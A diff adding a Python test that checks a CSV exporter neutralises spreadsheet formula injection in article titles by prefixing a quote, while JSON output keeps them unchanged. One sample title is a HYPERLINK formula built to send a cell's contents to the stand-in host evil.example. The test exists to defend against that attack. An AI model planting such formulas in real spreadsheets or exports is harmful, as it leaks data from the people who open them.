@@ -224,3 +224,19 @@ def test_formulation_tables_only_when_formulations_are_tracked(tmp_path: Path) -
     report = frictionless.validate(str(tmp_path / "data" / "datapackage.json"))
     assert report.valid, "\n".join(_errors(report))
     assert {"formulations", "formulation_uses"} <= {t.name for t in report.tasks}
+
+
+def test_csv_text_that_a_spreadsheet_would_run_is_kept_as_text() -> None:
+    """A headline from an untrusted capture such as =HYPERLINK(...) must not become a live
+    formula when a journalist opens the CSV; the JSON keeps it as it is."""
+    from build_scripts.export import table_csv, table_json, tables
+
+    plain = _synthetic(4, range(2020, 2021))
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1 fact", "@SUM(A1:A9)", "-5 reasons"]
+    archive = replace(plain, articles=tuple(replace(a, title=t) for a, t in zip(plain.articles, hostile)))
+    table = next(t for t in tables(archive) if t.name == "articles")
+    titles = [r["title"] for r in csv.DictReader(io.StringIO(table_csv(table)))]
+    assert titles == ["'" + t for t in hostile]
+    assert [r["title"] for r in json.loads(table_json(table))] == hostile
+    words = [r["words"] for r in csv.DictReader(io.StringIO(table_csv(table)))]
+    assert words == ["10"] * 4  # numbers are not text: left alone
